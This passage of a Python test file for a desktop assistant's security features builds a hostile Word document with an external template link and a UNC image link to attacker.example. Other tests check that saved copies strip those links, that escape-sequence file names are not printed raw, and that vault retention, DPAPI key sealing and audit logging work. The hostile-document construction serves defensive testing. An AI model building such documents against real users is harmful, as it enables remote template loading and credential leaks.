        f'<Relationships xmlns="{rels_ns}"><Relationship Id="rIdT" '
        f'Type="{type_base}attachedTemplate" Target="{EVIL_URL}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    settings = parts["word/settings.xml"].decode("utf-8")
    at = settings.index(">", settings.index("<w:settings")) + 1
    parts["word/settings.xml"] = (
        settings[:at] + '<w:attachedTemplate r:id="rIdT"/>' + settings[at:]
    ).encode()
    if 'xmlns:r="' not in settings[:at]:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:settings ",
            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    doc_rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    doc_rels = doc_rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdImg" Type="{type_base}image" '
        'Target="\\\\attacker.example\\share\\logo.png" TargetMode="External"/>'
        f'<Relationship Id="rIdLink" Type="{type_base}hyperlink" '
        'Target="https://www.digital.go.jp/" TargetMode="External"/></Relationships>',
    )
    parts["word/_rels/document.xml.rels"] = doc_rels.encode()
    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return source


def test_F18_outputs_drop_external_template_and_image_links(tmp_path):
    import zipfile

    from desk_assistant.documents import load

    source = hostile_docx(tmp_path)
    out = tmp_path / "out.docx"
    load(source).save_as(out)
    with zipfile.ZipFile(out) as archive:
        written = {i.filename: archive.read(i) for i in archive.infolist()}
    everything = b"".join(written.values())
    assert EVIL_URL.encode() not in everything and b"attacker.example" not in everything
    assert b"attachedTemplate" not in written["word/settings.xml"]
    assert b"https://www.digital.go.jp/" in written["word/_rels/document.xml.rels"]  # kept
    assert [b.text for b in load(out).blocks] == [b.text for b in load(source).blocks]
    # The input itself is untouched.
    with zipfile.ZipFile(source) as archive:
        assert EVIL_URL.encode() in archive.read("word/_rels/settings.xml.rels")


def test_F18_escape_sequences_in_file_names_are_not_printed_raw(tmp_path, capsys):
    evil = tmp_path / "report\x1b]0;owned\x07\x1b[2J\rfake.docx"
    evil.write_bytes(b"not a zip")
    code = main(["extract", str(evil)])
    err = capsys.readouterr().err
    assert code == 3
    assert "\x1b" not in err and "\x07" not in err and "\r" not in err
    assert "\\x1b" in err


# -- F12: retention per entry, by times inside the ciphertext ------------------------------------


def test_F12_old_memory_entries_go_although_the_blob_is_rewritten_daily(tmp_path):
    from desk_assistant.security.vault import Vault
    from desk_assistant.tasks.translate.memory import TranslationMemory, VaultStore

    vault = Vault(tmp_path / "vault", KEY)
    now = time.time()
    memory = TranslationMemory(VaultStore(vault, "tm/ja-en"))
    memory.add("古い原文", "old target")
    memory.entries["古い原文"]["time"] = int(now - 400 * 86400)
    memory.add("新しい原文", "new target")  # today's translation rewrites the blob
    memory.save()
    path = vault.path_for("tm/ja-en")
    assert vault.purge_older_than(365) == []  # the file time says "today": kept whole
    assert vault.apply_retention(365) == ["tm/ja-en"]
    entries = vault.get_json("tm/ja-en")["entries"]
    assert list(entries) == ["新しい原文"] and path.exists()


def test_F12_touching_a_blob_into_the_future_does_not_keep_it(tmp_path):
    from desk_assistant.errors import VaultNotFoundError
    from desk_assistant.security.vault import Vault

    vault = Vault(tmp_path / "vault", KEY)
    path = vault.put_json("recent-files", ["/secret/計画.docx"])
    future = time.time() + 5 * 365 * 86400
    os.utime(path, (future, future))  # touch -d +5y
    later = time.time() + 40 * 86400
    assert vault.purge_older_than(30, now=later) == []  # file times are fooled ...
    assert vault.apply_retention(30, now=later) == ["recent-files"]  # ... the inner time is not
    with pytest.raises(VaultNotFoundError):
        vault.get("recent-files")


def test_F12_startup_prunes_when_the_vault_opens(tmp_path, monkeypatch):
    from desk_assistant.security import startup
    from desk_assistant.security.policy import Policy

    monkeypatch.setattr(
        startup.keys,
        "load_or_create_key",
        lambda name, policy=None, create=True: startup.keys.KeyResult(KEY, "keyring"),
    )
    ctx = startup.secure_startup(None, policy=Policy(retention_days=30), on_warning=lambda t: None)
    ctx.vault.put_json("tm/ja-en", {"entries": {"a": {"target": "b", "time": 1}}})
    again = startup.secure_startup(
        None, policy=Policy(retention_days=30), on_warning=lambda t: None
    )
    assert again.vault.get_json("tm/ja-en")["entries"] == {}
    assert again.report()["pruned_by_inner_times"] == 1


# -- F11: the key file is sealed to the user's logon on Windows (DPAPI) ----------------------------


def test_F11_fallback_key_file_is_dpapi_sealed_where_available(tmp_path, monkeypatch):
    """DPAPI itself needs Windows (keys.dpapi_protect, ctypes → crypt32); here it is
    stood in by a per-account transform to check the key never lies in the file plainly
    and that another account cannot open it."""
    import base64 as b64

    from desk_assistant.errors import KeyFileError
    from desk_assistant.security import keys
    from desk_assistant.security.policy import Policy

    account = {"secret": 0x5A}

    def seal(data: bytes) -> bytes:
        return b"SEALED" + bytes(b ^ account["secret"] for b in data)

    def unseal(data: bytes) -> bytes:
        if not data.startswith(b"SEALED"):
            raise OSError("not sealed")
        plain = bytes(b ^ account["secret"] for b in data[6:])
        b64.b64decode(plain, validate=True)  # another account's transform gives garbage
        return plain

    monkeypatch.setattr(keys, "dpapi_available", lambda: True)
    monkeypatch.setattr(keys, "dpapi_protect", seal)
    monkeypatch.setattr(keys, "dpapi_unprotect", unseal)
    monkeypatch.setattr(
        keys, "_keyring_get", lambda name: (_ for _ in ()).throw(keys._NoKeyring("x"))
    )
    first = keys.load_or_create_key(keys.VAULT_KEY, Policy())
    text = first.path.read_text(encoding="ascii")
    assert text.startswith(keys.DPAPI_PREFIX)
    assert b64.b64encode(first.key).decode() not in text
    assert keys.load_or_create_key(keys.VAULT_KEY, Policy()).key == first.key
    account["secret"] = 0x33  # the same file under another account
    with pytest.raises(KeyFileError):
        keys.load_or_create_key(keys.VAULT_KEY, Policy())


def test_F11_sealed_key_file_is_refused_off_windows(tmp_path, monkeypatch):
    from desk_assistant.errors import KeyFileError
    from desk_assistant.security import keys
    from desk_assistant.security.policy import Policy

    monkeypatch.setattr(
        keys, "_keyring_get", lambda name: (_ for _ in ()).throw(keys._NoKeyring("x"))
    )
    path = keys.fallback_key_path(keys.AUDIT_KEY)
    path.parent.mkdir(parents=True)
    path.write_text(keys.DPAPI_PREFIX + "AAAA", encoding="ascii")
    if keys.dpapi_available():
        pytest.skip("Windows: DPAPI is available")
    with pytest.raises(KeyFileError):
        keys.load_or_create_key(keys.AUDIT_KEY, Policy())


def test_security_md_names_only_tests_that_exist():
    """Every claim in security.md names its test; a renamed or deleted test fails here."""
    import re

    named = set(re.findall(r"`(test_\w+)`", (REPO / "security.md").read_text(encoding="utf-8")))
    defined = set()
    for path in (REPO / "tests").rglob("test_*.py"):
        defined |= set(re.findall(r"^def (test_\w+)", path.read_text(encoding="utf-8"), re.M))
    assert named and named <= defined, sorted(named - defined)
    for finding in range(1, 19):
        if finding == 9:
            continue  # DisabledFeatures enforcement: tests/gui/test_policy_enforcement.py
        assert any(re.search(rf"(^test_|_)F{finding}_", n) for n in named), finding


def test_F18_policy_can_keep_external_links(tmp_path, monkeypatch):
    import zipfile

    from desk_assistant.documents import load

    source = hostile_docx(tmp_path)
    policy = write_json(tmp_path / "p.json", {"AllowExternalLinks": True})
    monkeypatch.setenv("DESK_ASSISTANT_POLICY", str(policy))
    out = tmp_path / "kept.docx"
    load(source).save_as(out)
    with zipfile.ZipFile(out) as archive:
        assert EVIL_URL.encode() in archive.read("word/_rels/settings.xml.rels")


def test_F4_syslog_mirror_writes_lines_verify_can_read_back(tmp_path, monkeypatch):
    """No /dev/log on the build machine: the syslog module is stood in, and the line it
    gets is written where IT's rsyslog rule would put it, then read back by verify."""
    import types

    from desk_assistant.security import audit_mirror

    sent: list[tuple] = []
    fake = types.SimpleNamespace(
        LOG_PID=1,
        LOG_USER=8,
        LOG_INFO=6,
        openlog=lambda ident, option, facility: sent.append(("open", ident, facility)),
        syslog=lambda priority, message: sent.append(("log", priority, message)),
    )
    monkeypatch.setitem(sys.modules, "syslog", fake)
    routed = tmp_path / "audit-mirror.log"
    mirror = audit_mirror.SyslogMirror([routed])
    assert mirror.read() is None  # not readable: verify says it checked the chain only
    log = AuditLog(tmp_path / "audit.jsonl", KEY, mirror)
    log.append(task="translate", outcome="ok", output_path="/secret/計画.docx")
    assert sent[0] == ("open", "desk-assistant-audit", 8)
    message = sent[1][2]
    assert message.startswith("DESKAUDIT ") and "計画" not in message
    routed.write_text(f"Nov 30 20:00:00 pc desk-assistant-audit[42]: {message}\n", encoding="utf-8")
    result = log.verify()
    assert result.ok and result.mirror == 1


def test_F5_selftest_runs_the_model_only_with_an_audit_record(tmp_path, monkeypatch):
    from desk_assistant import diagnostics
    from desk_assistant.llm.runtime import OpenModel

    info = model_file(tmp_path, b"GGUF")
    monkeypatch.setattr(diagnostics, "resolve_model", lambda *a, **k: info)

    def fake_open(info, settings, policy=None):
        engine = FakeEngine("Tokyo")
        return OpenModel(info, engine, engine.load(info.path), "f" * 64)

    monkeypatch.setattr(diagnostics, "open_model", fake_open)

    class Security:
        policy = None
        audit = AuditLog(tmp_path / "audit.jsonl", KEY)

        def report(self):
            return {"offline": {"guard_active": True, "network_attempts": 0}}

    report = diagnostics.run_selftest(Settings(), None, Security())
    assert report["ok"], report["steps"]
    got = [(r["task"], r["outcome"], r["model_sha256"]) for r in Security.audit.records()]
    assert got == [("selftest", "started", None), ("selftest", "ok", "f" * 64)]
    # An audit log that cannot be written: the model never runs.
    Security.audit = AuditLog(tmp_path / "blocked" / "audit.jsonl", KEY)
    Security.audit.lock_path.mkdir(parents=True)
    opened = []
    monkeypatch.setattr(diagnostics, "open_model", lambda *a, **k: opened.append(1))
    report = diagnostics.run_selftest(Settings(), None, Security())
    assert not report["ok"] and opened == []
